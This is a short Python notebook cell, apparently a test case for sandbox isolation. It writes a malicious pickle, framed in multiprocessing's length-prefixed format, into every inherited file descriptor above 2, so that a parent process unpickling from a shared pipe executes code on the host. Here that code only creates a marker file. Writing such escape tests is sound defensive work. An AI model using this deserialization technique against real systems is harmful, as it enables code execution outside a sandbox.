"""Attack (a notebook cell): write a pickle into every inherited file descriptor but 0/1/2.

In multiprocessing's length-prefixed format (4-byte length, then the pickle): a parent
that unpickles what arrives on a pipe it shares with the job (a worker pool's, or the
job's channel itself, fd 3) runs code, here `io.open(CK_MARKER_PATH, "w")`, which leaves
a marker file on the host. The notebook's own files (IPython's history) are spared.
"""
import io, pickle, struct
class _Marker:
    def __reduce__(self):  # io.open: IPython wraps the builtin open
        return (io.open, (CK_MARKER_PATH, "w"))
_data = pickle.dumps(_Marker())
PAYLOAD = struct.pack("!i", len(_data)) + _data

import os
_here = os.path.realpath(".")
for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    if _fd <= 2:
        continue
    try:
        _target = os.readlink("/proc/self/fd/%d" % _fd)
    except OSError:
        continue
    if _target.startswith(_here):  # the notebook's own files (IPython's history)
        continue
    try:
        os.write(_fd, PAYLOAD)
    except OSError:
        pass
